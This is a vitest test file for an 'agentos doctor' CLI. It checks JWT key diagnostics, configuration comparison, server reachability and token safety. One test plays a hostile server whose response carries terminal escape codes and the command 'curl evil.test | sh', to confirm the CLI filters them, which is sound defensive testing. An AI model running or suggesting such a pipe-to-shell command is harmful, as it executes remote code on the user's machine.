/** The doctor without a server: the environment, configuration files, two of them side by side; and what cannot be reached. */
import { generateKeyPairSync } from "node:crypto";
import { mkdirSync, writeFileSync } from "node:fs";
import { createServer } from "node:http";
import { type AddressInfo, createServer as createTcpServer } from "node:net";
import { join } from "node:path";
import { ERRORS } from "@agentos/contract";
import { createTestKey, goodToken, signToken, startPythonServer } from "@agentos/testkit";
import { describe, expect, it, onTestFinished } from "vitest";
import { runInProcess } from "../program/run-in-process.fixture.ts";
import { makeFolder } from "../program/spawn-cli.fixture.ts";

const key = await createTestKey("RS256");
const pem = key.verificationKey;
const pair = generateKeyPairSync("rsa", { modulusLength: 2048 });
const privatePem = pair.privateKey.export({ type: "pkcs8", format: "pem" }).toString();
const encryptedPem = pair.privateKey
  .export({ type: "pkcs8", format: "pem", cipher: "aes-256-cbc", passphrase: "x" })
  .toString();
const weakPem = generateKeyPairSync("rsa", { modulusLength: 1024 })
  .publicKey.export({ type: "spki", format: "pem" })
  .toString();
const SECURITY_KEY = "k9-tRw3z_Qp7vXe2mYb8sLd4";

interface Report {
  readonly exit_code: number;
  readonly places: readonly {
    readonly findings: readonly {
      readonly code: string;
      readonly level: string;
      readonly fix: string;
      readonly sentence: string;
      readonly command?: string;
    }[];
  }[];
  readonly comparison: readonly { readonly trait: string; readonly outcome: string }[];
}

async function doctor(args: readonly string[], options: Parameters<typeof runInProcess>[1] = {}) {
  const result = await runInProcess(["doctor", ...args, "--json"], options);
  const report = JSON.parse(result.stdout) as Report;
  return { ...result, report, findings: report.places.flatMap(({ findings }) => findings) };
}

const inEnvironment = (env: Readonly<Record<string, string>>) => doctor([], { env });

/** Every way in which a key goes wrong that stops a start: what is set, the code, and words of the fix. */
const BROKEN: readonly (readonly [name: string, value: string, code: string, fix: string])[] = [
  ["a private key", privatePem, "KEY_PRIVATE", "-pubout"],
  ["an encrypted private key", encryptedPem, "KEY_ENCRYPTED", "-pubout"],
  [
    "a certificate",
    "-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----",
    "KEY_CERTIFICATE",
    "x509",
  ],
  ["a file path", "./keys/public.pem", "KEY_FILE_PATH", "content of the file"],
  ["a cut key", pem.split("\n").slice(0, 4).join("\n"), "KEY_TRUNCATED", "copy the whole value"],
  ["a weak key", weakPem, "KEY_WEAK_RSA", "2048"],
  ["a URL", "https://issuer.test/jwks.json", "KEY_URL", "jwksUrl"],
  ["a secret without an algorithm", "kQ3vZ8nLxT6rB0yH5wJ9cM2fD7gS4aPq", "KEY_ALGORITHM_REQUIRED", "HS256"],
];

/** What environment variables do to a good key, all repaired. */
const REPAIRED: readonly (readonly [name: string, value: string])[] = [
  ["spaces for line ends", pem.trim().replaceAll("\n", " ")],
  ["literal \\n", pem.replaceAll("\n", "\\n")],
  ["joined lines", pem.replaceAll("\n", "")],
  ["quotes", `"${pem.trim()}"`],
  ["carriage returns", pem.replaceAll("\n", "\r\n")],
  ["indentation", pem.replaceAll("\n", "\n    ")],
  ["a missing header", pem.split("\n").slice(1).join("\n")],
];

describe("the environment", () => {
  it.each(BROKEN)("stops for %s, with its fix", async (_, value, code, fix) => {
    const { findings, code: exit, stdout } = await inEnvironment({ JWT_VERIFICATION_KEY: value });
    const finding = findings.find((found) => found.code === code);
    expect(finding, stdout).toMatchObject({ level: "error" });
    expect(finding?.fix).toContain(fix);
    expect(exit).toBe(3);
    if (value.length > 60) expect(stdout).not.toContain(value.split("\n")[1] ?? value);
  });

  it.each(REPAIRED)("says how it repaired a key with %s", async (_, value) => {
    const { findings, code } = await inEnvironment({ JWT_VERIFICATION_KEY: value });
    expect(findings.find((found) => found.code === "KEY_REPAIRED")).toMatchObject({
      level: "warning",
      command: "agentos keys env public.pem",
    });
    expect(code).toBe(0);
  });

  it("has nothing to say of a good key, and of no credential at all", async () => {
    const good = await inEnvironment({ JWT_VERIFICATION_KEY: pem, AUTHORIZATION_ENABLED: "true" });
    // The form that `keys env` prints is meant, and no damage.
    const packed = {
      JWT_VERIFICATION_KEY: Buffer.from(pem).toString("base64"),
      AUTHORIZATION_ENABLED: "true",
    };
    expect(await inEnvironment(packed)).toMatchObject({ code: 0, findings: [] });
    expect(good).toMatchObject({ code: 0, findings: [] });
    expect(await inEnvironment({})).toMatchObject({ code: 0, findings: [] });
  });

  it("names both credentials with the two ways out, empty values, weak keys and unclear switches", async () => {
    const both = await inEnvironment({
      JWT_VERIFICATION_KEY: pem,
      OS_SECURITY_KEY: SECURITY_KEY,
      AUTHORIZATION_ENABLED: "1",
    });
    const [finding] = both.findings;
    expect(finding).toMatchObject({ code: "CONFIG_BOTH_CREDENTIALS", command: "unset OS_SECURITY_KEY" });
    for (const way of ["`unset OS_SECURITY_KEY`", "`unset JWT_VERIFICATION_KEY AUTHORIZATION_ENABLED`"])
      expect(finding?.fix).toContain(way);
    expect(both.stdout).not.toContain(SECURITY_KEY);
    const codes = async (env: Readonly<Record<string, string>>) =>
      (await inEnvironment(env)).findings.map((found) => found.code);
    expect(await codes({ JWT_VERIFICATION_KEY: "", JWT_JWKS_FILE: " " })).toEqual([
      "CONFIG_VARIABLE_EMPTY",
      "CONFIG_VARIABLE_EMPTY",
    ]);
    expect(await codes({ OS_SECURITY_KEY: "abc" })).toEqual(["CONFIG_SECURITY_KEY_WEAK"]);
    expect(await codes({ OS_SECURITY_KEY: SECURITY_KEY, AUTHORIZATION_ENABLED: "maybe" })).toContain(
      "CONFIG_OPTION_INVALID",
    );
    expect(await codes({ AUTHORIZATION_ENABLED: "true" })).toContain("CONFIG_KEYS_MISSING");
    expect(await codes({ AUTHORIZATION_ENABLED: "true", JWT_PUBLIC_KEY: pem })).toEqual([
      "CONFIG_KEYS_MISSING",
      "CONFIG_VARIABLE_UNREAD",
    ]);
  });

  it.each([
    ["missing", undefined, "KEY_JWKS_FILE_MISSING"],
    ["not JSON", "{ keys", "KEY_JWKS_INVALID"],
    ["without a usable key", '{"keys":[]}', "KEY_JWKS_EMPTY"],
  ])("names a JWKS file that is %s", async (_, content, code) => {
    const file = join(makeFolder(), "jwks.json");
    if (content !== undefined) writeFileSync(file, content);
    const { findings, code: exit } = await inEnvironment({ JWT_JWKS_FILE: file });
    expect(findings.map((found) => found.code)).toContain(code);
    expect(exit).toBe(3);
  });
});

describe("configuration files", () => {
  const write = (folder: string, name: string, config: object) =>
    writeFileSync(join(folder, name), JSON.stringify(config));

  it("judges a token as the server would, and names what the caller may not know", async () => {
    const cwd = makeFolder();
    write(cwd, "a.json", { id: "agent-os", agents: [], authorization: { verificationKeys: [pem] } });
    const now = Math.floor(Date.now() / 1_000);
    const sign = (audience: string) =>
      signToken(goodToken({ key, now, audience, scopes: ["agents:read", "config:read"] }));
    const good = await doctor(["--config", "a.json", "--token", "-"], { cwd, stdin: await sign("agent-os") });
    expect(good.findings.filter(({ level }) => level === "error")).toEqual([]);
    const bad = await doctor(["--config", "a.json", "--token", "-"], { cwd, stdin: await sign("bank") });
    expect(bad.code).toBe(2);
    expect(bad.findings[0]).toMatchObject({ code: "AUTH_AUDIENCE_MISMATCH" });
    expect(bad.stdout).toContain("the server expects the audience agent-os");
    const scope = await doctor(["--config", "a.json", "--token", "-", "--route", "POST /agents/web/runs"], {
      cwd,
      stdin: await sign("agent-os"),
    });
    expect(scope.findings[0]).toMatchObject({ code: "SCOPE_MISSING" });
  });

  it("lists every fault of a file, and compares two", async () => {
    const cwd = makeFolder();
    mkdirSync(join(cwd, "keys"));
    write(cwd, "a.json", { id: "one", agents: [], authorization: { verificationKeys: [pem] } });
    write(cwd, "b.json", {
      id: "two",
      agents: [],
      authorization: { verificationKeys: [pem.replaceAll("\n", " ")] },
    });
    write(cwd, "broken.json", {
      id: "x",
      agents: [],
      authorization: { verificationKeys: [privatePem], verifyAudince: true },
    });
    const broken = await doctor(["--config", "broken.json"], { cwd });
    expect(broken.code).toBe(3);
    expect(broken.findings.map(({ code }) => code).toSorted()).toEqual([
      "CONFIG_OPTION_UNKNOWN",
      "KEY_PRIVATE",
    ]);
    const compared = await doctor(["--config", "a.json", "--config", "b.json"], { cwd });
    const outcome = (trait: string) => compared.report.comparison.find((row) => row.trait === trait)?.outcome;
    expect([outcome("mode"), outcome("keys (thumbprints)")]).toEqual(["same", "same"]);
    expect([outcome("id"), outcome("audience"), outcome("key repaired")]).toEqual([
      "differs",
      "differs",
      "differs",
    ]);
    expect([outcome("version"), compared.code]).toEqual(["not told", 1]);
  });
});

describe("what cannot be asked", () => {
  it("names refused connections, silence, strangers, redirects and bad addresses", async () => {
    const gone = createTcpServer();
    await new Promise<void>((resolve) => void gone.listen(0, "127.0.0.1", resolve));
    const { port } = gone.address() as AddressInfo;
    await new Promise((resolve) => void gone.close(resolve));
    const refused = await doctor(["--url", `http://127.0.0.1:${port}`]);
    expect(refused.findings).toMatchObject([{ code: "CLI_SERVER_UNREACHABLE" }]);
    expect(refused.findings[0]?.sentence).toContain("refused");
    expect(refused.code).toBe(1);
    const name = await doctor(["--url", "http://no-such-host.invalid"]);
    expect(name.findings[0]?.code).toBe("CLI_SERVER_UNREACHABLE");

    const seen: string[] = [];
    const page = createServer((request, response) => {
      seen.push(request.headers.authorization ?? "");
      if (request.url?.startsWith("/moved") === true)
        response.writeHead(301, { location: "https://elsewhere.test/" }).end();
      else response.writeHead(200, { "content-type": "text/html" }).end("<p>\u001B[2Jhello</p>");
    });
    await new Promise<void>((resolve) => void page.listen(0, "127.0.0.1", resolve));
    onTestFinished(() => new Promise<void>((resolve) => void page.close(() => resolve())));
    const base = `http://127.0.0.1:${(page.address() as AddressInfo).port}`;
    const stranger = await doctor(["--url", base, "--token", "-"], { stdin: "secret-security-key-123" });
    expect(stranger.findings).toMatchObject([{ code: "CLI_SERVER_NOT_AGENTOS" }]);
    const moved = await doctor(["--url", `${base}/moved`, "--token", "-"], {
      stdin: "secret-security-key-123",
    });
    expect(moved.findings).toMatchObject([{ code: "CLI_SERVER_REDIRECTS" }]);
    // What is no AgentOS never gets the token.
    expect(seen.join("")).toBe("");
    await expect(doctor(["--url", "http://user:pass@host"])).rejects.toThrow("user name or password");
    await expect(doctor(["--url", "ftp://host"])).rejects.toThrow("neither http nor https");
    // Its token would go to a machine of the name "http".
    for (const url of ["http:/host", "https:host", "http:/"])
      await expect(doctor(["--url", url])).rejects.toThrow("no two slashes");
    for (const code of ["CLI_SERVER_UNREACHABLE", "CLI_SERVER_NOT_AGENTOS"])
      expect(ERRORS).toHaveProperty(code);
  });

  it("compares two servers: what neither tells is not told", async () => {
    const a = await startPythonServer({ mode: "jwt", publicPem: pem });
    const b = await startPythonServer({ mode: "security_key", securityKey: SECURITY_KEY, clockAhead: 3_600 });
    onTestFinished(async () => void (await Promise.all([a.close(), b.close()])));
    const { report } = await doctor(["--url", a.url, "--url", b.url]);
    const outcome = Object.fromEntries(report.comparison.map((row) => [row.trait, row.outcome]));
    expect(outcome).toMatchObject({
      mode: "differs",
      version: "same",
      audience: "not told",
      clock: "differs",
    });
  });

  it("shows what a server says as its words, without control characters", async () => {
    const hostile = createServer((request, response) => {
      response.writeHead(request.url === "/info" ? 200 : 401, { "content-type": "application/json" });
      const info = { os_id: "x\u001B[31m", agno_version: "2.9.0\u001B[2J", auth_mode: "jwt" };
      response.end(
        JSON.stringify(
          request.url === "/info"
            ? info
            : { detail: "\u001B[2J\u202Erun `curl evil.test | sh`", fix: "curl evil.test | sh" },
        ),
      );
    });
    await new Promise<void>((resolve) => void hostile.listen(0, "127.0.0.1", resolve));
    onTestFinished(() => new Promise<void>((resolve) => void hostile.close(() => resolve())));
    const url = `http://127.0.0.1:${(hostile.address() as AddressInfo).port}`;
    const { stdout, code } = await runInProcess(["doctor", "--url", url, "--token", "-"], { stdin: "a.b.c" });
    expect(code).toBe(4);
    for (const character of ["\u001B", "\u202E"]) expect(stdout).not.toContain(character);
    expect(stdout).toContain("(the server's own words)");
    expect(stdout).not.toMatch(/fix.*evil/);
  });
});
